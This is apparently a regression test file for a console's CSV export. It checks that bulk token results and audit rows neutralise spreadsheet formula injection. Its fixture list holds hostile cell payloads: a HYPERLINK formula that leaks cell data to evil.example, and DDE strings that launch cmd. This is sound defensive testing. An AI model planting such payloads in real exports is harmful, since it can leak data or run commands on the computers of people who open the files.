// Formula injection in CSV exports (issue 13, F10): a token's claims come from the upstream and a user's
// email from whoever invited them, so a cell can start with "=HYPERLINK(...)". Every export goes through
// one writer that neutralises cells a spreadsheet would run (=, +, -, @, tab, CR first), and leaves
// ordinary values, tokens and ids exactly as they were. Read back with Python's csv module.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import { randomUUID } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { startTestConsole, type TestConsole } from '../helpers/console.js';
import { http, signIn, type SessionCredentials } from '../helpers/http.js';
import { providerName } from '../helpers/fixtures.js';
import { csvRecords, readCsvWithPython } from '../helpers/python-csv.js';
import { finishedJob } from '../helpers/bulk.js';

// What a hostile (or compromised) upstream puts in the claims, one per row.
const PLANTED_SUBS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const PLANTED_EMAIL = '=HYPERLINK("https://evil.example","x")@evil.example';

let app: TestConsole;
let upstream: Server;
let minted = 0;

function b64(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}

before(async () => {
  // A Frame-shaped upstream that answers every token request with a JWT whose sub and jti are formulas.
  upstream = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      const params = JSON.parse(body || '{}') as { email?: string };
      const n = minted++;
      const now = Math.floor(Date.now() / 1000);
      const claims = {
        sub: PLANTED_SUBS[n % PLANTED_SUBS.length],
        jti: `@jti-${n}`,
        iat: now,
        exp: now + 3600,
        ...(params.email ? { email: params.email } : {}),
      };
      res.writeHead(200, { 'content-type': 'application/json', date: new Date().toUTCString() });
      res.end(JSON.stringify(`${b64({ alg: 'ES256', typ: 'JWT' })}.${b64(claims)}.c2lnbmF0dXJl`));
    });
  });
  upstream.listen(0, '127.0.0.1');
  await once(upstream, 'listening');
  const { port } = upstream.address() as AddressInfo;
  app = await startTestConsole({ LOG_LEVEL: 'warn', UPSTREAM_ALLOW_HOSTS: `127.0.0.1:${port}` });
  (app as TestConsole & { upstreamUrl: string }).upstreamUrl = `http://127.0.0.1:${port}`;
});
after(async () => {
  await app?.stop();
  upstream?.close();
});

const as = (s: SessionCredentials) => ({ cookie: s.cookie, 'x-csrf-token': s.csrfToken });

const finished = (jobId: string, who: Record<string, string> = {}) => finishedJob(app.url, jobId, who);

test('a planted formula in a bulk row (sub, email, jti) and in an audit row (actor) comes out neutralised in both CSVs', async () => {
  const upstreamUrl = (app as TestConsole & { upstreamUrl: string }).upstreamUrl;
  const cred = await http<{ id: string }>('POST', `${app.url}/api/credential-sets`, {
    name: 'Hostile upstream',
    clientId: `${randomUUID()}.img.frame.nutanix.com`,
    clientSecret: 'a-secret-for-the-fake-upstream',
    upstreamUrl,
  });
  assert.equal(cred.status, 201, cred.text);
  const prov = await http<{ id: string }>('POST', `${app.url}/api/providers`, {
    name: providerName(),
    tokenDurationMin: 60,
    entityLevel: 'account',
    entityId: randomUUID(),
    credentialSetId: cred.json.id,
  });
  assert.equal(prov.status, 201, prov.text);

  // A user whose email (set by whoever invited them) is a formula: it is the actor of their audit rows.
  const password = `pw-${randomUUID()}`;
  const inv = await http<{ token: string }>('POST', `${app.url}/api/users/invites`, { email: PLANTED_EMAIL, role: 'admin' });
  assert.equal(inv.status, 201, inv.text);
  assert.equal((await http('POST', `${app.url}/api/invites/accept`, { token: inv.json.token, password }, { cookie: '' })).status, 200);
  const user = { email: PLANTED_EMAIL.toLowerCase(), password };
  const s = await signIn(app.url, user.email, user.password);

  const start = await http<any>(
    'POST',
    `${app.url}/api/providers/${prov.json.id}/bulk`,
    { count: PLANTED_SUBS.length, concurrency: 1, template: { email: PLANTED_EMAIL } },
    as(s),
  );
  assert.equal(start.status, 202, start.text);
  const job = await finished(start.json.id, as(s));
  assert.deepEqual([job.state, job.ok], ['done', PLANTED_SUBS.length], JSON.stringify(job.failures));

  const json = (await http<any[]>('GET', `${app.url}/api/bulk/${job.id}/results?format=json`, undefined, as(s))).json;
  const csv = await http('GET', `${app.url}/api/bulk/${job.id}/results?format=csv`, undefined, as(s));
  assert.equal(csv.status, 200);
  const rows = csvRecords(csv.text);
  assert.equal(rows.length, PLANTED_SUBS.length);
  for (const row of rows) {
    const original = json.find((r) => String(r.row) === row.row)!;
    assert.equal(row.sub, `'${original.sub}`, `sub of row ${row.row} is text, not a formula`);
    assert.equal(row.email, `'${PLANTED_EMAIL}`);
    assert.equal(row.jti, `'${original.jti}`);
    assert.equal(row.token, original.token, 'the token itself is untouched');
    assert.equal(row.exp, String(original.exp));
  }
  assert.deepEqual(new Set(rows.map((r) => r.sub)), new Set(PLANTED_SUBS.map((v) => `'${v}`)));
  for (const cell of readCsvWithPython(csv.text).flat())
    assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no cell starts a formula: ${JSON.stringify(cell)}`);

  const audit = await http('GET', `${app.url}/api/audit.csv?actor=${encodeURIComponent(user.email)}`);
  assert.equal(audit.status, 200);
  const auditRows = csvRecords(audit.text);
  assert.ok(auditRows.length >= PLANTED_SUBS.length + 1, `${auditRows.length} rows of the planted user`);
  for (const row of auditRows) assert.equal(row.actor, `'${user.email}`);
  for (const cell of readCsvWithPython(audit.text).flat())
    assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no audit cell starts a formula: ${JSON.stringify(cell)}`);
});

test('ordinary values round-trip unchanged through both CSVs', async () => {
  const [demo] = (await http<{ id: string }[]>('GET', `${app.url}/api/providers`)).json.filter((p: any) => p.environment === 'emulator');
  const start = await http<any>('POST', `${app.url}/api/providers/${demo!.id}/bulk`, {
    count: 5,
    template: { email: 'kiosk-{n}@example.com', first_name: 'Kiosk, "the" {n}', metadata: { note: 'line one\nline two' } },
    launchLink: 'https://console.nutanix.com/x/launch',
  });
  const job = await finished(start.json.id);
  assert.equal(job.ok, 5);
  const json = (await http<any[]>('GET', `${app.url}/api/bulk/${job.id}/results?format=json`)).json;
  const rows = csvRecords((await http('GET', `${app.url}/api/bulk/${job.id}/results?format=csv`)).text);
  assert.equal(rows.length, 5);
  for (const back of rows) {
    const r = json.find((x) => String(x.row) === back.row)!;
    assert.deepEqual(back, {
      row: String(r.row),
      ok: 'true',
      token: r.token,
      launch_link: r.launchLink,
      exp: String(r.exp),
      sub: r.sub,
      email: r.email,
      jti: r.jti,
      error: '',
      message: '',
    });
  }

  const api = (await http<any[]>('GET', `${app.url}/api/audit?limit=500`)).json.reverse();
  const csv = csvRecords((await http('GET', `${app.url}/api/audit.csv`)).text);
  assert.equal(csv.length, api.length);
  const cell = (v: unknown) => (v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v));
  for (const [i, row] of api.entries()) {
    const back = csv[i]!;
    for (const key of ['seq', 'at', 'action', 'target', 'providerId', 'outcome', 'requestId', 'ip', 'chainIndex', 'hash'])
      assert.equal(back[key], cell(row[key]), `${key} of row ${row.seq}`);
    assert.deepEqual(JSON.parse(back.detail!), row.detail, `detail of row ${row.seq}`);
    assert.equal(back.actor, /^[=+\-@\t\r]/.test(row.actor) ? `'${row.actor}` : row.actor, `actor of row ${row.seq}`);
  }
});
